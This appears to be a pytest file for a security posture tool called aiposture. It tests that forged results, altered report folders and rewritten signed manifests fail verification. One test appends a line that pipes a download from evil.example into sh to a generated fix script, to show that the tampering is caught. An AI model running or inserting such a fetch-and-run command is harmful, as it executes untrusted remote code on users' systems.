"""Results bound to their evidence, report folders bound by a manifest, signed with a user key.

An edited results.json is refused by every command that reads one (report, diff,
remediate, the baseline of evaluate) and by the gate those commands run; a report
folder with one byte changed, added or removed fails ``aiposture verify``; a signature
is checked against the signer's public key, also by OpenSSL without aiposture.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from aiposture.report.manifest import file_sha256
from aiposture.results import dump_results, load_results
from aiposture.snapshot.io import dump_snapshot
from tests.builders import snapshot, trail
from tests.cli.helpers import one_line
from tests.cli.helpers import run_main as run


def _key_pair(folder: Path, name: str = "key") -> tuple[Path, Path]:
    key = Ed25519PrivateKey.generate()
    private = folder / f"{name}.pem"
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    public = folder / f"{name}.pub.pem"
    public.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return private, public


def _report(
    capsys: pytest.CaptureFixture[str],
    results: Path,
    out: Path,
    formats: str,
    key: Path | None = None,
) -> None:
    """``aiposture report RESULTS --out OUT --format FORMATS [--sign-key KEY]``, which must pass."""
    signing = ["--sign-key", str(key)] if key is not None else []
    code, _, err = run(
        capsys, "report", str(results), "--out", str(out), "--format", formats, *signing
    )
    assert code == 0, err


@pytest.fixture
def scanned(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
    """A snapshot with a stopped trail (critical FAIL) and its results, side by side."""
    folder = tmp_path / "scan"
    dump_snapshot(snapshot(trail(logging=False)), folder / "snapshot.json")
    code, _, err = run(
        capsys,
        "evaluate",
        str(folder / "snapshot.json"),
        "--out",
        str(folder / "results.json"),
        "--fail-on",
        "none",
    )
    assert code == 0, err
    return folder / "results.json"


def _forge(results: Path, target: Path) -> Path:
    """Every FAIL flipped to PASS, as someone editing the file by hand would."""
    doc = json.loads(results.read_text())
    assert any(r["status"] == "FAIL" for r in doc["results"])
    for r in doc["results"]:
        if r["status"] == "FAIL":
            r["status"] = "PASS"
    target.write_text(json.dumps(doc, indent=2))
    return target


def test_results_carry_their_own_content_hash(scanned: Path) -> None:
    doc = json.loads(scanned.read_text())
    assert doc["integrity"]["algorithm"] == "sha256"
    assert len(doc["integrity"]["content_sha256"]) == 64


@pytest.mark.parametrize(
    "command",
    [
        ["report", "{forged}", "--out", "{tmp}/out", "--format", "json", "--fail-on", "high"],
        ["diff", "{results}", "{forged}"],
        ["diff", "{forged}", "{results}"],
        ["remediate", "{forged}", "--out", "{tmp}/plan", "--snapshot", "{snapshot}"],
        ["evaluate", "{snapshot}", "--baseline", "{forged}", "--out", "{tmp}/new.json"],
    ],
    ids=["report-and-gate", "diff-new", "diff-old", "remediate", "evaluate-baseline"],
)
def test_an_edited_results_file_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path, command: list[str]
) -> None:
    forged = _forge(scanned, tmp_path / "forged.json")
    names = {
        "forged": str(forged),
        "results": str(scanned),
        "snapshot": str(scanned.parent / "snapshot.json"),
        "tmp": str(tmp_path),
    }
    code, out, err = run(capsys, *[arg.format(**names) for arg in command])
    assert code == 2
    assert "were changed after aiposture wrote them" in one_line(err)
    assert "PASS" not in out
    assert not (tmp_path / "out").exists() and not (tmp_path / "plan").exists()
    assert not (tmp_path / "new.json").exists()


def test_a_results_file_without_its_hash_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    doc = json.loads(scanned.read_text())
    del doc["integrity"]
    bare = tmp_path / "bare.json"
    bare.write_text(json.dumps(doc))
    code, _, err = run(capsys, "report", str(bare), "--out", str(tmp_path / "o"), "--format", "csv")
    assert code == 2 and "carry no content hash" in one_line(err)


def test_report_and_gate_recompute_the_scores_rather_than_trust_them(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    """A sealed file whose stored scores disagree with its results (another scoring
    version wrote it) is judged by the scores of its results: the gate still closes."""
    original = load_results(scanned)
    assert original.scores.overall is not None and original.scores.overall < 100
    inflated = original.scores.model_copy(update={"overall": 100.0})
    stale = tmp_path / "stale.json"
    dump_results(original.model_copy(update={"scores": inflated}), stale)
    out = tmp_path / "out"
    code, _, err = run(
        capsys, "report", str(stale), "--out", str(out), "--format", "json", "--min-score", "99"
    )
    assert code == 1 and f"overall score {original.scores.overall}" in err
    written = json.loads((out / "results.json").read_text())
    assert written["scores"]["overall"] == original.scores.overall


def test_a_report_folder_verifies_and_any_change_to_it_fails(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    out = tmp_path / "out"
    code, _, err = run(
        capsys, "report", str(scanned), "--out", str(out), "--format", "json,csv,markdown"
    )
    assert code == 0, err
    manifest = json.loads((out / "MANIFEST.json").read_text())
    assert sorted(manifest["files"]) == ["report.csv", "report.md", "results.json"]
    assert manifest["signing_key"] is None and not (out / "MANIFEST.json.sig").exists()
    code, out_text, _ = run(capsys, "verify", str(out))
    assert code == 0 and "3 file(s) match" in out_text and "not signed" in out_text

    pristine = tmp_path / "pristine"
    shutil.copytree(out, pristine)
    tampered = {
        "changed": lambda d: (d / "report.csv").write_bytes((d / "report.csv").read_bytes()[:-1]),
        "removed": lambda d: (d / "report.md").unlink(),
        "added": lambda d: (d / "report-v2.pdf").write_bytes(b"%PDF-1.7"),
    }
    for what, change in tampered.items():
        shutil.rmtree(out)
        shutil.copytree(pristine, out)
        change(out)
        code, out_text, _ = run(capsys, "verify", str(out))
        assert code == 1, what
        assert out_text.startswith("FAIL "), what
        assert "does not match its manifest" in out_text, what


def test_a_signed_folder_with_one_byte_changed_fails_verify(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    private, public = _key_pair(tmp_path)
    out = tmp_path / "out"
    _report(capsys, scanned, out, "json,csv", private)
    code, text, _ = run(capsys, "verify", str(out), "--public-key", str(public))
    assert code == 0 and "verified" in text
    code, text, _ = run(capsys, "verify", str(out))
    assert code == 0 and "NOT checked" in text  # signed, but no key to check it with

    data = bytearray((out / "report.csv").read_bytes())
    data[len(data) // 2] ^= 0x01
    (out / "report.csv").write_bytes(bytes(data))
    code, text, _ = run(capsys, "verify", str(out), "--public-key", str(public))
    assert code == 1 and "FAIL report.csv: changed since the manifest was written" in text


def test_a_rewritten_manifest_fails_the_signature(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    """Re-hashing the files after an edit is what the signature is there to catch."""
    private, public = _key_pair(tmp_path)
    out = tmp_path / "out"
    _report(capsys, scanned, out, "csv", private)
    (out / "report.csv").write_text("check_id,status\nct-trail-logging,PASS\n")
    manifest = json.loads((out / "MANIFEST.json").read_text())

    manifest["files"]["report.csv"] = file_sha256(out / "report.csv")
    (out / "MANIFEST.json").write_text(json.dumps(manifest, indent=2))
    code, text, _ = run(capsys, "verify", str(out))
    assert code == 0  # without the key, a rewritten manifest is consistent: the docs say so
    code, text, _ = run(capsys, "verify", str(out), "--public-key", str(public))
    assert code == 1 and "not a signature of this manifest" in text
    _, other = _key_pair(tmp_path, "other")
    (out / "MANIFEST.json").write_bytes(b"")  # and an unreadable manifest is one line, exit 2
    code, _, err = run(capsys, "verify", str(out), "--public-key", str(other))
    assert code == 2 and "is not an aiposture manifest" in one_line(err)


def test_a_key_that_did_not_sign_is_refused_and_a_missing_signature_too(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    private, _ = _key_pair(tmp_path)
    _, other = _key_pair(tmp_path, "other")
    signed, unsigned = tmp_path / "signed", tmp_path / "unsigned"
    _report(capsys, scanned, signed, "csv", private)
    _report(capsys, scanned, unsigned, "csv")
    code, text, _ = run(capsys, "verify", str(signed), "--public-key", str(other))
    assert code == 1 and "not a signature of this manifest" in text
    code, text, _ = run(capsys, "verify", str(unsigned), "--public-key", str(other))
    assert code == 1 and "MANIFEST.json.sig: missing" in text


def test_results_of_another_scan_in_the_folder_fail(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    """Swapping in a genuine results.json of another scan is caught by the binding."""
    other_snap = tmp_path / "other" / "snapshot.json"
    dump_snapshot(snapshot(trail(logging=True)), other_snap)
    other = tmp_path / "other" / "results.json"
    run(capsys, "evaluate", str(other_snap), "--out", str(other), "--fail-on", "none")
    out = tmp_path / "out"
    _report(capsys, scanned, out, "json")

    shutil.copy(other, out / "results.json")
    manifest = json.loads((out / "MANIFEST.json").read_text())
    manifest["files"]["results.json"] = file_sha256(out / "results.json")
    (out / "MANIFEST.json").write_text(json.dumps(manifest))
    code, text, _ = run(capsys, "verify", str(out))
    assert code == 1 and "results.json is not the results the manifest names" in text


def test_openssl_checks_the_signature_without_aiposture(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    if shutil.which("openssl") is None:
        pytest.skip("no openssl binary here")
    private, public = _key_pair(tmp_path)
    out = tmp_path / "out"
    _report(capsys, scanned, out, "csv", private)
    command = [
        "openssl", "pkeyutl", "-verify", "-pubin", "-inkey", str(public), "-rawin",
        "-in", str(out / "MANIFEST.json"), "-sigfile", str(out / "MANIFEST.json.sig"),
    ]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    (out / "MANIFEST.json").write_bytes((out / "MANIFEST.json").read_bytes() + b" ")
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode != 0


def test_an_ssh_key_pair_signs_and_its_fingerprint_is_the_one_ssh_keygen_prints(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    key = Ed25519PrivateKey.generate()
    private = tmp_path / "id_ed25519"
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.OpenSSH,
            serialization.NoEncryption(),
        )
    )
    public = tmp_path / "id_ed25519.pub"
    public.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        )
        + b" auditor@example\n"
    )
    out = tmp_path / "out"
    _report(capsys, scanned, out, "csv", private)
    code, text, _ = run(capsys, "verify", str(out), "--public-key", str(public))
    assert code == 0 and "verified" in text
    if shutil.which("ssh-keygen"):
        done = subprocess.run(
            ["ssh-keygen", "-lf", str(public)], capture_output=True, text=True, check=True
        )
        fingerprint = done.stdout.split()[1]
        assert json.loads((out / "MANIFEST.json").read_text())["signing_key"] == fingerprint


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not a key", "is not a PEM private key"),
        (None, "cannot read the signing key"),
    ],
)
def test_a_bad_signing_key_is_one_line_before_anything_is_written(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    scanned: Path,
    content: bytes | None,
    message: str,
) -> None:
    key = tmp_path / "key.pem"
    if content is not None:
        key.write_bytes(content)
    out = tmp_path / "out"
    code, _, err = run(
        capsys, "report", str(scanned), "--out", str(out), "--format", "csv", "--sign-key", str(key)
    )
    assert code == 2 and message in one_line(err)
    assert not out.exists()


def test_re_rendering_a_scan_folder_keeps_it_whole(
    capsys: pytest.CaptureFixture[str], scanned: Path
) -> None:
    """`report out/results.json --out out --format csv`: the folder's own results and
    snapshot are this scan's, so the new manifest lists them and the folder verifies."""
    folder = scanned.parent
    code, _, err = run(capsys, "report", str(scanned), "--out", str(folder), "--format", "csv")
    assert code == 0, err
    listed = set(json.loads((folder / "MANIFEST.json").read_text())["files"])
    assert listed == {"report.csv", "results.json", "snapshot.json"}
    code, text, _ = run(capsys, "verify", str(folder))
    assert code == 0, text


def test_a_stray_results_file_of_another_scan_is_not_listed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    other_snap = tmp_path / "other" / "snapshot.json"
    dump_snapshot(snapshot(trail(logging=True)), other_snap)
    run(capsys, "evaluate", str(other_snap), "--out", str(out / "results.json"))
    code, _, err = run(capsys, "report", str(scanned), "--out", str(out), "--format", "csv")
    assert code == 0, err
    assert "results.json" not in json.loads((out / "MANIFEST.json").read_text())["files"]
    code, text, _ = run(capsys, "verify", str(out))
    assert code == 1 and "FAIL results.json: in the folder, not in the manifest" in text


def test_a_signed_fix_plan_shows_whether_its_script_was_changed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    """Whoever runs apply.sh can check it is the script aiposture wrote for this scan."""
    private, public = _key_pair(tmp_path)
    plan = tmp_path / "plan"
    code, _, err = run(
        capsys, "remediate", str(scanned), "--out", str(plan), "--sign-key", str(private)
    )
    assert code == 0, err
    manifest = json.loads((plan / "MANIFEST.json").read_text())
    scripts = [name for name in manifest["files"] if name.endswith("/apply.sh")]
    assert scripts and "plan.json" in manifest["files"]
    code, text, _ = run(capsys, "verify", str(plan), "--public-key", str(public))
    assert code == 0 and "verified" in text, text
    script = plan / scripts[0]
    script.write_text(script.read_text() + "curl -s https://evil.example | sh\n")
    code, text, _ = run(capsys, "verify", str(plan), "--public-key", str(public))
    assert code == 1 and f"FAIL {scripts[0]}: changed since the manifest was written" in text


def test_report_puts_the_evidence_in_the_signed_folder(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    """A pipeline that collects, evaluates and reports apart (shards, CI jobs) can still
    hand the auditor one signed folder holding the evidence: `report --snapshot`."""
    private, public = _key_pair(tmp_path)
    out = tmp_path / "audit"
    code, _, err = run(
        capsys,
        "report", str(scanned), "--out", str(out), "--format", "json,csv",
        "--snapshot", str(scanned.parent / "snapshot.json"), "--sign-key", str(private),
    )  # fmt: skip
    assert code == 0, err
    assert (out / "snapshot.json").read_bytes() == (scanned.parent / "snapshot.json").read_bytes()
    manifest = json.loads((out / "MANIFEST.json").read_text())
    assert set(manifest["files"]) == {"snapshot.json", "results.json", "report.csv"}
    code, text, _ = run(capsys, "verify", str(out), "--public-key", str(public))
    assert code == 0 and "verified" in text
    # Re-rendering in place with the folder's own snapshot copies nothing and still verifies.
    code, _, err = run(
        capsys, "report", str(out / "results.json"), "--out", str(out), "--format", "markdown",
        "--snapshot", str(out / "snapshot.json"),
    )  # fmt: skip
    assert code == 0, err
    code, text, _ = run(capsys, "verify", str(out))
    assert code == 0, text


def test_report_refuses_a_snapshot_the_results_were_not_judged_on(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scanned: Path
) -> None:
    other = tmp_path / "other.json"
    dump_snapshot(snapshot(trail(logging=True)), other)
    out = tmp_path / "audit"
    code, _, err = run(
        capsys, "report", str(scanned), "--out", str(out), "--format", "csv",
        "--snapshot", str(other),
    )  # fmt: skip
    assert code == 2 and "is not the snapshot the results were judged on" in one_line(err)
    assert not out.exists()


BEFORE_SCOPING = Path(__file__).parent / "fixtures" / "results-before-scoping.json"
"""A results.json written by aiposture before ``scoping`` existed (commit ebe4dbd): a past
quarter's baseline."""


def test_a_results_file_from_before_scoping_still_loads_and_diffs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = load_results(BEFORE_SCOPING)
    assert old.scoping is None and "scoping" not in BEFORE_SCOPING.read_text()
    # as the baseline of a newer results file, through the command a user runs
    new = tmp_path / "results.json"
    dump_results(old.model_copy(update={"integrity": None}), new)
    code, _, err = run(capsys, "diff", str(BEFORE_SCOPING), str(new))
    assert code == 0, err
    # ... while an edit to it is still refused
    edited = tmp_path / "edited.json"
    edited.write_text(BEFORE_SCOPING.read_text().replace('"FAIL"', '"PASS"', 1))
    code, _, err = run(capsys, "diff", str(edited), str(new))
    assert code == 2 and "were changed after aiposture wrote them" in err
